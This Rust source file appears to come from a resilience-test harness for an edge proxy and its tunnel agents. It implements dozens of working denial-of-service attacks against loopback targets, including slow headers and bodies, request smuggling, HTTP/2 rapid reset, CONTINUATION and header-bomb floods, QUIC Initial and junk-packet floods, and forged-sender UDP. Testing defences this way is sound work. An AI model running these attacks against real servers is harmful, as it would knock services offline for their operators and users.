//! The attacks, from where attackers stand: whatever can be sent to the public ports and the port for agents, and by agents.

mod insider;

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::Duration;

use futures_util::future::BoxFuture;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use serde_json::Value;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpStream, UdpSocket};
use tokio::time::sleep;

use insider::{
    Tunnel, agent_deaf, agent_endless, agent_floods, agent_frames, agent_headers, agent_quic_heads, agent_quic_streams,
    tunnel_quic_rpc,
};

use super::connect_from;
use crate::frames::frame;

/// What an attacker says when it begins.
pub(super) const BEGINS: &str = "the attack begins";

/// Between two bytes of a slow attacker.
const DRIP: Duration = Duration::from_millis(500);

/// Whom to attack.
#[derive(Clone)]
struct Target {
    http: SocketAddr,
    https: SocketAddr,
    tunnel: SocketAddr,
    api: SocketAddr,
    /// A public port of UDP.
    port: SocketAddr,
    host: String,
    /// Of whoever attacks from within.
    own: Option<Arc<Tunnel>>,
    tls: Arc<rustls::ClientConfig>,
}

/// One of many of the same, which goes on until it is stopped.
type Attacker = fn(Target, usize) -> BoxFuture<'static, std::io::Result<()>>;

pub(super) struct Attack {
    pub(super) name: &'static str,
    /// For people.
    pub(super) what: &'static str,
    /// So many at once.
    workers: usize,
    attacker: Attacker,
}

macro_rules! attacks {
    ($($name:ident, $workers:literal, $what:literal;)*) => {
        /// All of them.
        pub(super) const ATTACKS: &[Attack] = &[$(
            Attack {
                name: stringify!($name),
                what: $what,
                workers: $workers,
                attacker: |target, number| Box::pin($name(target, number)),
            },
        )*];
    };
}

attacks! {
    busy, 4, "nothing, and busy all the same";
    connections, 16, "HTTP/1.1: connections opened and closed";
    slow_headers, 1000, "HTTP/1.1: headers a byte at a time, 1,000 connections";
    slow_bodies, 500, "HTTP/1.1: bodies a byte at a time, 500 connections";
    slow_readers, 200, "HTTP/1.1: answers of 1 GB that nobody reads, 200 connections";
    downloads, 50, "HTTP/1.1: answers of 10 MB that are read, by 50 visitors of another tenant at once";
    garbage, 16, "HTTP/1.1: garbage";
    smuggling, 8, "HTTP/1.1: requests of two framings";
    tls_garbage, 16, "TLS: garbage";
    tls_handshakes, 8, "TLS: whole handshakes and nothing more";
    tls_hellos, 256, "TLS: the same first message again and again, which costs nothing, and no word more";
    tls_traced, 256, "TLS: the same, each from a network that has had an answer of the edge's own before";
    tls_served, 256, "TLS: the same, five times each from a network that has had an origin's answer before";
    tls_silence, 1000, "TLS: handshakes that stop in the middle, 1,000 connections";
    rapid_reset, 4, "HTTP/2: rapid reset";
    made_you_reset, 4, "HTTP/2: made-you-reset";
    continuations, 4, "HTTP/2: CONTINUATION without end";
    settings, 4, "HTTP/2: settings";
    pings, 4, "HTTP/2: pings";
    empty_data, 4, "HTTP/2: empty DATA";
    header_bombs, 4, "HTTP/2: header bombs";
    closed_windows, 20, "HTTP/2: 100 answers with closed windows on each of 20 connections";
    quic_garbage, 4, "QUIC: garbage";
    quic_initials, 4, "QUIC: Initial packets, a thousand half-open handshakes";
    quic_handshakes, 8, "QUIC: whole handshakes and nothing more";
    quic_junk, 100, "QUIC: packets that nobody can decrypt, without end, for connections of 100 networks";
    http3_resets, 4, "HTTP/3: requests taken back";
    http3_empty_frames, 4, "HTTP/3: frames that carry nothing";
    http3_slow_readers, 20, "HTTP/3: 100 answers that nobody reads on each of 20 connections";
    http3_downloads, 20, "HTTP/3: answers of 10 MB that are read, by 20 visitors of another tenant at once";
    http3_requests, 20, "HTTP/3: requests of 1 KB without end, 10 at once by each of 20 visitors of another tenant";
    udp_forged, 4, "UDP port: one datagram of each forged sender (the victim is at another port)";
    tunnel_scanners, 16, "Tunnel port: scanners and TLS garbage";
    tunnel_silence, 1000, "Tunnel port: handshakes, a byte and no registration, 1,000 connections";
    tunnel_initials, 4, "Tunnel port: Initial packets";
    tunnel_rpc, 8, "Tunnel port: RPC that is none, over HTTP/2";
    tunnel_quic_rpc, 8, "Tunnel port: RPC that is none, and streams before a registration, over QUIC";
    api_hellos, 128, "API: the same first message of TLS again and again";
    agent_deaf, 20, "Agent: registered, and reads nothing";
    agent_headers, 20, "Agent: headers of MBs, of thousands of fields, and such as are none";
    agent_frames, 20, "Agent: frames that no peer may send";
    agent_endless, 20, "Agent: interim answers, bodies and trailers without end";
    agent_floods, 20, "Agent: resets, windows, pings and settings";
    agent_quic_heads, 20, "Agent, over QUIC: heads that are too much, and such as are none";
    agent_quic_streams, 20, "Agent, over QUIC: streams and datagrams of its own, without end";
}

/// No attack: honest visitors, as many as the largest attack has connections, over each protocol.
pub(super) const CROWDS: [Attack; 5] = [
    crowd("crowd_http1", "honest visitors over HTTP/1.1", |target, _| Box::pin(honest(target, Protocol::Http1))),
    crowd("crowd_tls", "honest visitors over TLS", |target, _| Box::pin(honest(target, Protocol::Tls))),
    crowd("crowd_http2", "honest visitors over HTTP/2", |target, _| Box::pin(honest(target, Protocol::Http2))),
    crowd("crowd_udp", "honest visitors of a port of UDP", |target, _| Box::pin(honest(target, Protocol::Udp))),
    crowd("crowd_http3", "honest visitors over HTTP/3", |target, _| Box::pin(honest(target, Protocol::Http3))),
];

/// In each crowd.
pub(super) const VISITORS: usize = 1000;

const fn crowd(name: &'static str, what: &'static str, attacker: Attacker) -> Attack {
    Attack { name, what, workers: VISITORS, attacker }
}

impl Attack {
    /// Whether it comes from an agent that is registered.
    pub(super) fn is_from_within(&self) -> bool {
        self.name.starts_with("agent_")
    }

    /// Whether it is one upon public ports of UDP.
    pub(super) fn is_upon_ports(&self) -> bool {
        self.name.starts_with("udp_")
    }
}

/// Attacks until the process is ended.
pub(super) async fn attack(told: &Value) {
    let text = |key: &str| told[key].as_str().unwrap().to_owned();
    let address = |key: &str| text(key).parse().unwrap();
    let name = text("attack");
    let (number, attack) = ATTACKS.iter().chain(&CROWDS).enumerate().find(|(_, attack)| attack.name == name).unwrap();
    ARRIVALS.store(u32::try_from(number * APART).unwrap(), Ordering::Relaxed);
    let mut roots = rustls::RootCertStore::empty();
    roots.add(CertificateDer::from_pem_file(text("ca")).unwrap()).unwrap();
    let tls = rustls::ClientConfig::builder_with_provider(Arc::new(rustls::crypto::aws_lc_rs::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    let target = Target {
        http: address("http"),
        https: address("https"),
        tunnel: address("tunnel"),
        api: address("api"),
        port: address("port"),
        host: text("host"),
        own: Tunnel::read(&told["own"]).map(Arc::new),
        tls: Arc::new(tls),
    };
    println!("{BEGINS}");
    let workers = (0..attack.workers).map(|number| {
        let (target, attacker) = (target.clone(), attack.attacker);
        tokio::spawn(async move {
            loop {
                // Whatever comes of one, there is another.
                let outcome = attacker(target.clone(), number).await;
                if outcome.is_err() {
                    sleep(Duration::from_millis(5)).await;
                }
            }
        })
    });
    futures_util::future::join_all(workers.collect::<Vec<_>>()).await;
}

/// Whatever the edge says to it.
async fn rest(mut stream: impl tokio::io::AsyncRead + Unpin) -> std::io::Result<()> {
    tokio::io::copy(&mut stream, &mut tokio::io::sink()).await.map(|_| ())
}

/// Arrivals of this attack, from a number on where others have hardly been.
static ARRIVALS: AtomicU32 = AtomicU32::new(0);

/// Between the first arrivals of two attacks: more than come to one from somewhere, and no multiple of the number of networks, so that
/// each attack begins with others.
const APART: usize = 150_000;

/// An address that nothing has come from in this attack, each time of another of 32,768 networks than the one before, none of which is
/// the victim's.
fn arrival() -> Ipv4Addr {
    let number = ARRIVALS.fetch_add(1, Ordering::Relaxed);
    let [_, host, ..] = (number << 1).to_be_bytes();
    let [.., high, low] = number.to_be_bytes();
    // The victim is below these.
    Ipv4Addr::new(127, 128 | high, low, host)
}

/// Connects from an address of its own. From one alone, connections that are opened and closed leave hardly a port that is not waiting
/// out its time, and the system looks for one for milliseconds, which the victim would feel.
async fn arrive(address: SocketAddr) -> std::io::Result<TcpStream> {
    connect_from(arrival(), address).await
}

async fn send(address: SocketAddr, bytes: &[u8]) -> std::io::Result<()> {
    let mut stream = arrive(address).await?;
    stream.write_all(bytes).await?;
    rest(stream).await
}

async fn drip(mut stream: TcpStream, bytes: &[u8]) -> std::io::Result<()> {
    for byte in bytes.iter().cycle() {
        stream.write_all(&[*byte]).await?;
        sleep(DRIP).await;
    }
    Ok(())
}

/// Calculates, and leaves the edge alone.
async fn busy(_: Target, number: usize) -> std::io::Result<()> {
    for round in 0..100_000_usize {
        std::hint::black_box(round.wrapping_mul(number));
    }
    tokio::task::yield_now().await;
    Ok(())
}

/// How long an honest visitor stays after its answer.
const VISIT: Duration = Duration::from_secs(2);

/// Bytes of an honest visitor's datagram, which fits into a packet everywhere.
const DATAGRAM: usize = 1_000;

/// What honest visitors come by.
enum Protocol {
    Http1,
    Tls,
    Http2,
    Udp,
    Http3,
}

/// Fetches 100 KB, and stays for a while.
async fn honest(target: Target, protocol: Protocol) -> std::io::Result<()> {
    const LENGTH: usize = 100_000;
    let ask = |host: &str| format!("GET /bytes?n={LENGTH} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    match protocol {
        Protocol::Http1 => {
            let mut stream = arrive(target.http).await?;
            stream.write_all(ask(&target.host).as_bytes()).await?;
            stream.read_exact(&mut vec![0; LENGTH]).await?;
            sleep(VISIT).await;
        }
        Protocol::Tls => {
            let mut stream = handshake(&target, target.https, &target.host, &[]).await?;
            stream.write_all(ask(&target.host).as_bytes()).await?;
            stream.read_exact(&mut vec![0; LENGTH]).await?;
            sleep(VISIT).await;
        }
        Protocol::Http2 => {
            // Windows for all of it, as far as the connection goes.
            let mut stream = arrive(target.http).await?;
            let path = format!("/bytes?n={LENGTH}");
            let mut sent = [PREFACE, &frame(8, 0, 0, &1_000_000_u32.to_be_bytes())].concat();
            sent.extend(frame(1, 5, 1, &header(0x82, &target, &path)));
            sent.extend(frame(8, 0, 1, &1_000_000_u32.to_be_bytes()));
            stream.write_all(&sent).await?;
            stream.read_exact(&mut vec![0; LENGTH]).await?;
            sleep(VISIT).await;
        }
        Protocol::Udp => {
            // As many bytes, to the port whose origin says everything again.
            let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
            socket.connect(target.port).await?;
            for _ in 0..LENGTH / DATAGRAM {
                socket.send(&[1; DATAGRAM]).await?;
                let answer = tokio::time::timeout(VISIT, socket.recv(&mut [0; DATAGRAM])).await;
                let _ = answer.map_err(std::io::Error::from)?;
            }
            sleep(VISIT).await;
        }
        Protocol::Http3 => {
            let (_endpoint, connection) = dial(&target, quic_config(&target, b"h3")).await?;
            let mut control = connection.open_uni().await.map_err(std::io::Error::other)?;
            control.write_all(&[0, 4, 0]).await.map_err(std::io::Error::other)?;
            let (mut sending, mut receiving) = connection.open_bi().await.map_err(std::io::Error::other)?;
            let head = http3_headers(&target, &format!("/bytes?n={LENGTH}"), GET);
            sending.write_all(&head).await.map_err(std::io::Error::other)?;
            let _ = sending.finish();
            receiving.read_to_end(2 * LENGTH).await.map_err(std::io::Error::other)?;
            sleep(VISIT).await;
        }
    }
    Ok(())
}

async fn connections(target: Target, _: usize) -> std::io::Result<()> {
    drop(arrive(target.http).await?);
    Ok(())
}

async fn slow_headers(target: Target, _: usize) -> std::io::Result<()> {
    let mut stream = arrive(target.http).await?;
    stream.write_all(b"GET / HTTP/1.1\r\nHost: ").await?;
    drip(stream, b"a").await
}

async fn slow_bodies(target: Target, _: usize) -> std::io::Result<()> {
    let mut stream = arrive(target.http).await?;
    let head = format!("POST /echo HTTP/1.1\r\nHost: {}\r\nContent-Length: 1000000\r\n\r\n", target.host);
    stream.write_all(head.as_bytes()).await?;
    drip(stream, b"a").await
}

async fn slow_readers(target: Target, _: usize) -> std::io::Result<()> {
    let mut stream = arrive(target.http).await?;
    let head = format!("GET /bytes?n=1000000000 HTTP/1.1\r\nHost: {}\r\n\r\n", target.host);
    stream.write_all(head.as_bytes()).await?;
    std::future::pending().await
}

async fn downloads(target: Target, _: usize) -> std::io::Result<()> {
    let head = format!("GET /bytes?n=10000000 HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", target.host);
    send(target.http, head.as_bytes()).await
}

async fn garbage(target: Target, number: usize) -> std::io::Result<()> {
    let junk: Vec<u8> = (0..4096).map(|at| (at * 31 + number * 7) as u8).collect();
    send(target.http, &junk).await
}

async fn smuggling(target: Target, _: usize) -> std::io::Result<()> {
    let head = format!(
        "POST / HTTP/1.1\r\nHost: {}\r\nTransfer-Encoding: gzip, chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
        target.host
    );
    send(target.http, head.as_bytes()).await
}

async fn tls_garbage(target: Target, number: usize) -> std::io::Result<()> {
    // A record of the right kind, and nothing right in it.
    let mut junk = vec![0x16, 3, 1, 16, 0];
    junk.extend((0..4096).map(|at| (at * 31 + number * 7) as u8));
    send(target.https, &junk).await
}

async fn handshake(
    target: &Target,
    address: SocketAddr,
    name: &str,
    alpn: &[&[u8]],
) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let mut tls = (*target.tls).clone();
    tls.alpn_protocols = alpn.iter().map(|name| name.to_vec()).collect();
    tls.resumption = rustls::client::Resumption::disabled();
    let connector = tokio_rustls::TlsConnector::from(Arc::new(tls));
    let name = ServerName::try_from(name.to_owned()).map_err(std::io::Error::other)?;
    connector.connect(name, arrive(address).await?).await
}

async fn tls_handshakes(target: Target, _: usize) -> std::io::Result<()> {
    handshake(&target, target.https, &target.host, &[]).await.map(drop)
}

async fn tls_hellos(target: Target, _: usize) -> std::io::Result<()> {
    hello(&target, arrive(target.https).await?).await
}

async fn tls_traced(target: Target, _: usize) -> std::io::Result<()> {
    let address = arrival();
    fetch(&target, address, "/cdn-cgi/trace").await?;
    hello(&target, connect_from(address, target.https).await?).await
}

async fn tls_served(target: Target, _: usize) -> std::io::Result<()> {
    let address = arrival();
    fetch(&target, address, "/").await?;
    for _ in 0..5 {
        hello(&target, connect_from(address, target.https).await?).await?;
    }
    Ok(())
}

/// Gets a good answer, or none at all.
async fn fetch(target: &Target, from: Ipv4Addr, path: &str) -> std::io::Result<()> {
    let mut stream = connect_from(from, target.http).await?;
    let head = format!("GET {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", target.host);
    stream.write_all(head.as_bytes()).await?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await?;
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 200 "), "{answer}");
    Ok(())
}

async fn api_hellos(target: Target, _: usize) -> std::io::Result<()> {
    hello(&target, arrive(target.api).await?).await
}

/// The first byte of what answers a first message of TLS (RFC 8446 section 5.1).
const HANDSHAKE: u8 = 0x16;

/// A first message of TLS, until the edge has calculated what it answers.
async fn hello(target: &Target, mut stream: TcpStream) -> std::io::Result<()> {
    static HELLO: OnceLock<Vec<u8>> = OnceLock::new();
    let hello = HELLO.get_or_init(|| {
        let name = ServerName::try_from(target.host.clone()).unwrap();
        let mut hello = Vec::new();
        let mut client = rustls::ClientConnection::new(Arc::clone(&target.tls), name).unwrap();
        client.write_tls(&mut hello).unwrap();
        hello
    });
    stream.write_all(hello).await?;
    let mut answer = [0];
    stream.read_exact(&mut answer).await?;
    assert_eq!(answer, [HANDSHAKE], "an alert costs nothing");
    Ok(())
}

async fn tls_silence(target: Target, _: usize) -> std::io::Result<()> {
    let mut stream = arrive(target.https).await?;
    stream.write_all(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc]).await?;
    rest(stream).await
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// A request's header: method by its index in the static table.
fn header(method: u8, target: &Target, path: &str) -> Vec<u8> {
    let mut block = vec![method, 0x86, 0x04, u8::try_from(path.len()).unwrap()];
    block.extend(path.as_bytes());
    block.extend([0x01, u8::try_from(target.host.len()).unwrap()]);
    block.extend(target.host.as_bytes());
    block
}

/// Frames on a connection of their own, with a reader beside, until the edge ends it.
async fn http2(target: &Target, frames: &[u8]) -> std::io::Result<()> {
    let (reader, mut writer) = arrive(target.http).await?.into_split();
    let reading = tokio::spawn(rest(reader));
    writer.write_all(PREFACE).await?;
    let written = writer.write_all(frames).await;
    if written.is_ok() {
        let _ = reading.await;
    } else {
        reading.abort();
    }
    written
}

async fn rapid_reset(target: Target, _: usize) -> std::io::Result<()> {
    let mut frames = Vec::new();
    for number in 0..5000 {
        frames.extend(frame(1, 5, 2 * number + 1, &header(0x82, &target, "/hang")));
        frames.extend(frame(3, 0, 2 * number + 1, &8_u32.to_be_bytes()));
    }
    http2(&target, &frames).await
}

async fn made_you_reset(target: Target, _: usize) -> std::io::Result<()> {
    let mut frames = Vec::new();
    for number in 0..5000 {
        frames.extend(frame(1, 5, 2 * number + 1, &header(0x82, &target, "/hang")));
        frames.extend(frame(8, 0, 2 * number + 1, &[0; 4]));
    }
    http2(&target, &frames).await
}

async fn continuations(target: Target, _: usize) -> std::io::Result<()> {
    let mut frames = frame(1, 1, 1, &header(0x82, &target, "/"));
    frames.extend(frame(9, 0, 1, &[0, 1, b'x', 1, b'y']).repeat(20_000));
    http2(&target, &frames).await
}

async fn settings(target: Target, _: usize) -> std::io::Result<()> {
    http2(&target, &frame(4, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(20_000)).await
}

async fn pings(target: Target, _: usize) -> std::io::Result<()> {
    http2(&target, &frame(6, 0, 0, &[7; 8]).repeat(20_000)).await
}

async fn empty_data(target: Target, _: usize) -> std::io::Result<()> {
    let mut frames = frame(1, 4, 1, &header(0x83, &target, "/echo"));
    frames.extend(frame(0, 0, 1, &[]).repeat(20_000));
    http2(&target, &frames).await
}

async fn header_bombs(target: Target, _: usize) -> std::io::Result<()> {
    let mut block = header(0x82, &target, "/");
    // The length 4000 with a prefix of seven bits (RFC 7541 section 5.1), and then its one-byte name again and again.
    block.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
    block.extend([b'v'; 4000]);
    block.extend([0xbe; 12_000]);
    http2(&target, &frame(1, 5, 1, &block)).await
}

async fn closed_windows(target: Target, _: usize) -> std::io::Result<()> {
    let mut frames = frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]);
    for number in 0..100 {
        frames.extend(frame(1, 5, 2 * number + 1, &header(0x82, &target, "/bytes?n=100000000")));
    }
    http2(&target, &frames).await
}

async fn udp() -> std::io::Result<UdpSocket> {
    UdpSocket::bind((arrival(), 0)).await
}

/// Long and short headers with all else made up.
async fn quic_garbage(target: Target, number: usize) -> std::io::Result<()> {
    let socket = udp().await?;
    for round in 0..10_000_usize {
        let mut packet: Vec<u8> = (0..1200).map(|at| (at * 31 + number * 7 + round) as u8).collect();
        packet[..6].copy_from_slice(&[[0xc3, 0x43][round % 2], 0, 0, 0, 1, 8]);
        packet[6..14].copy_from_slice(&(round + number).to_be_bytes());
        socket.send_to(&packet, target.https).await?;
        if round % 64 == 0 {
            tokio::task::yield_now().await;
        }
    }
    Ok(())
}

fn quic_config(target: &Target, alpn: &[u8]) -> quinn::ClientConfig {
    let mut tls = (*target.tls).clone();
    tls.alpn_protocols = vec![alpn.to_vec()];
    tls.resumption = rustls::client::Resumption::disabled();
    quinn::ClientConfig::new(Arc::new(quinn::crypto::rustls::QuicClientConfig::try_from(tls).unwrap()))
}

/// First flights, each sent for once and never followed by another packet.
async fn initials(target: &Target, address: SocketAddr, name: &str, alpn: &[u8]) -> std::io::Result<()> {
    let trap = udp().await?;
    let socket = udp().await?;
    let endpoint = quinn::Endpoint::client((Ipv4Addr::LOCALHOST, 0).into())?;
    let mut packet = [0; 2048];
    loop {
        // It dials the trap, and what it sends there goes on to the edge from an address where nobody answers.
        let connecting = endpoint
            .connect_with(quic_config(target, alpn), trap.local_addr()?, name)
            .map_err(std::io::Error::other)?;
        for _ in 0..2 {
            let received = tokio::time::timeout(Duration::from_millis(200), trap.recv(&mut packet)).await;
            let Ok(Ok(length)) = received else { break };
            socket.send_to(&packet[..length], address).await?;
        }
        drop(connecting);
    }
}

async fn quic_initials(target: Target, _: usize) -> std::io::Result<()> {
    initials(&target, target.https, &target.host, b"h3").await
}

async fn tunnel_initials(target: Target, _: usize) -> std::io::Result<()> {
    initials(&target, target.tunnel, certs::tls::TUNNEL_QUIC_NAME, certs::tls::TUNNEL_ALPN).await
}

async fn dial(target: &Target, config: quinn::ClientConfig) -> std::io::Result<(quinn::Endpoint, quinn::Connection)> {
    let endpoint = quinn::Endpoint::client((arrival(), 0).into())?;
    let connecting = endpoint.connect_with(config, target.https, &target.host).map_err(std::io::Error::other)?;
    let connection = connecting.await.map_err(std::io::Error::other)?;
    Ok((endpoint, connection))
}

async fn quic_handshakes(target: Target, _: usize) -> std::io::Result<()> {
    dial(&target, quic_config(&target, b"h3")).await.map(drop)
}

/// A real connection, which a relay watches, and then packets with its identifier that are none of it. Nobody acknowledges them, so that
/// nothing slows them down.
async fn quic_junk(target: Target, number: usize) -> std::io::Result<()> {
    /// The bit that is set in each packet, and no bit of a long header (RFC 9000 section 17.3.1).
    const SHORT: u8 = 0x40;
    /// Of the identifiers that quinn gives.
    const IDENTIFIER: usize = 8;
    let trap = udp().await?;
    let socket = UdpSocket::bind((Ipv4Addr::new(127, 64, u8::try_from(number % 256).unwrap(), 1), 0)).await?;
    socket.connect(target.https).await?;
    let endpoint = quinn::Endpoint::client((Ipv4Addr::LOCALHOST, 0).into())?;
    let connecting = endpoint
        .connect_with(quic_config(&target, b"h3"), trap.local_addr()?, &target.host)
        .map_err(std::io::Error::other)?;
    let client = endpoint.local_addr()?;
    let (mut there, mut back) = ([0; 2048], [0; 2048]);
    let relayed = async {
        loop {
            tokio::select! {
                length = trap.recv(&mut there) => {
                    let packet = &there[..length?];
                    socket.send(packet).await?;
                    if packet[0] & 0xc0 == SHORT {
                        return Ok::<_, std::io::Error>(packet[1..=IDENTIFIER].to_vec());
                    }
                }
                length = socket.recv(&mut back) => {
                    trap.send_to(&back[..length?], client).await?;
                }
            }
        }
    };
    let connected = async { connecting.await.map_err(std::io::Error::other) };
    let (identifier, _connection) = tokio::try_join!(relayed, connected)?;
    let packet = [&[SHORT], &identifier[..], &[7; 1200]].concat();
    for round in 0..50_000 {
        socket.send(&packet).await?;
        if round % 64 == 0 {
            tokio::task::yield_now().await;
        }
    }
    Ok(())
}

/// A HEADERS frame of HTTP/3 with literal fields.
fn http3_headers(target: &Target, path: &str, method: u8) -> Vec<u8> {
    // Method and `https` by their index, then authority and path with theirs for the name.
    let mut block = vec![0, 0, 0xc0 | method, 0xc0 | 23, 0x50, u8::try_from(target.host.len()).unwrap()];
    block.extend(target.host.as_bytes());
    block.extend([0x51, u8::try_from(path.len()).unwrap()]);
    block.extend(path.as_bytes());
    let length = u16::try_from(block.len()).unwrap() | 0x4000;
    [&[1], &length.to_be_bytes()[..], &block].concat()
}

const GET: u8 = 17;
const POST: u8 = 20;

async fn http3_resets(target: Target, _: usize) -> std::io::Result<()> {
    let (_endpoint, connection) = dial(&target, quic_config(&target, b"h3")).await?;
    let mut control = connection.open_uni().await.map_err(std::io::Error::other)?;
    control.write_all(&[0, 4, 0]).await.map_err(std::io::Error::other)?;
    loop {
        let (mut sending, mut receiving) = connection.open_bi().await.map_err(std::io::Error::other)?;
        sending.write_all(&http3_headers(&target, "/hang", GET)).await.map_err(std::io::Error::other)?;
        let _ = sending.reset(0x10c_u32.into());
        let _ = receiving.stop(0x10c_u32.into());
    }
}

async fn http3_empty_frames(target: Target, _: usize) -> std::io::Result<()> {
    let (_endpoint, connection) = dial(&target, quic_config(&target, b"h3")).await?;
    let mut control = connection.open_uni().await.map_err(std::io::Error::other)?;
    control.write_all(&[0, 4, 0]).await.map_err(std::io::Error::other)?;
    let (mut sending, _receiving) = connection.open_bi().await.map_err(std::io::Error::other)?;
    sending.write_all(&http3_headers(&target, "/echo", POST)).await.map_err(std::io::Error::other)?;
    // Empty DATA.
    let nothing = [0, 0].repeat(4096);
    loop {
        sending.write_all(&nothing).await.map_err(std::io::Error::other)?;
    }
}

async fn http3_slow_readers(target: Target, _: usize) -> std::io::Result<()> {
    let mut transport = quinn::TransportConfig::default();
    transport.stream_receive_window(16_u32.into()).keep_alive_interval(Some(Duration::from_secs(1)));
    let mut config = quic_config(&target, b"h3");
    config.transport_config(Arc::new(transport));
    let (_endpoint, connection) = dial(&target, config).await?;
    let mut control = connection.open_uni().await.map_err(std::io::Error::other)?;
    control.write_all(&[0, 4, 0]).await.map_err(std::io::Error::other)?;
    let mut kept = Vec::new();
    for _ in 0..100 {
        let (mut sending, receiving) = connection.open_bi().await.map_err(std::io::Error::other)?;
        let head = http3_headers(&target, "/bytes?n=100000000", GET);
        sending.write_all(&head).await.map_err(std::io::Error::other)?;
        let _ = sending.finish();
        kept.push(receiving);
    }
    connection.closed().await;
    drop(kept);
    Ok(())
}

async fn http3_downloads(target: Target, _: usize) -> std::io::Result<()> {
    http3_visits(&target, "/bytes?n=10000000", 1).await
}

async fn http3_requests(target: Target, _: usize) -> std::io::Result<()> {
    http3_visits(&target, "/bytes?n=1000", 10).await
}

/// One answer after the other is read, so many at once.
async fn http3_visits(target: &Target, path: &str, at_once: usize) -> std::io::Result<()> {
    let (_endpoint, connection) = dial(target, quic_config(target, b"h3")).await?;
    let mut control = connection.open_uni().await.map_err(std::io::Error::other)?;
    control.write_all(&[0, 4, 0]).await.map_err(std::io::Error::other)?;
    let visit = async || -> std::io::Result<()> {
        loop {
            let (mut sending, mut receiving) = connection.open_bi().await.map_err(std::io::Error::other)?;
            sending.write_all(&http3_headers(target, path, GET)).await.map_err(std::io::Error::other)?;
            let _ = sending.finish();
            while receiving.read_chunk(usize::MAX, true).await.map_err(std::io::Error::other)?.is_some() {}
        }
    };
    futures_util::future::try_join_all((0..at_once).map(|_| visit())).await.map(drop)
}

/// Every sender says one thing and is never heard again.
async fn udp_forged(target: Target, number: usize) -> std::io::Result<()> {
    for round in 0..50_000_u32 {
        let [_, _, high, low] = round.to_be_bytes();
        let sender = Ipv4Addr::new(127, 1 + number as u8, high, low);
        let socket = std::net::UdpSocket::bind((sender, 0))?;
        socket.send_to(b"x", target.port)?;
        if round % 64 == 0 {
            tokio::task::yield_now().await;
        }
    }
    Ok(())
}

async fn tunnel_scanners(target: Target, number: usize) -> std::io::Result<()> {
    let greetings: [&[u8]; 4] = [
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x10\x00garbage garbage garbage garbage",
        b"SSH-2.0-scanner\r\n",
        b"\0\0\0\0\0\0\0\0",
    ];
    let mut stream = arrive(target.tunnel).await?;
    stream.write_all(greetings[number % greetings.len()]).await?;
    stream.shutdown().await?;
    rest(stream).await
}

async fn tunnel_silence(target: Target, _: usize) -> std::io::Result<()> {
    let mut stream = handshake(&target, target.tunnel, certs::tls::TUNNEL_HTTP2_NAME, &[]).await?;
    // What there is of a frame has to be kept.
    stream.write_all(&[0]).await?;
    rest(stream).await
}

/// The edge asks for a control stream on a connection that it thinks is an agent's; it gets other answers.
async fn tunnel_rpc(target: Target, number: usize) -> std::io::Result<()> {
    let mut stream = handshake(&target, target.tunnel, certs::tls::TUNNEL_HTTP2_NAME, &[]).await?;
    // Empty settings and their acknowledgement, `:status: 200` on the first stream, and then no RPC.
    let mut sent = [frame(4, 0, 0, &[]), frame(4, 1, 0, &[])].concat();
    sent.extend(frame(1, 4, 1, &[0x88]));
    for size in [1, 7, 8, 100, 16_000] {
        let junk: Vec<u8> = (0..size).map(|at| (at * 31 + number * 7) as u8).collect();
        sent.extend(frame(0, 0, 1, &junk));
    }
    stream.write_all(&sent).await?;
    let mut answer = [0; 1024];
    while stream.read(&mut answer).await? > 0 {}
    Ok(())
}
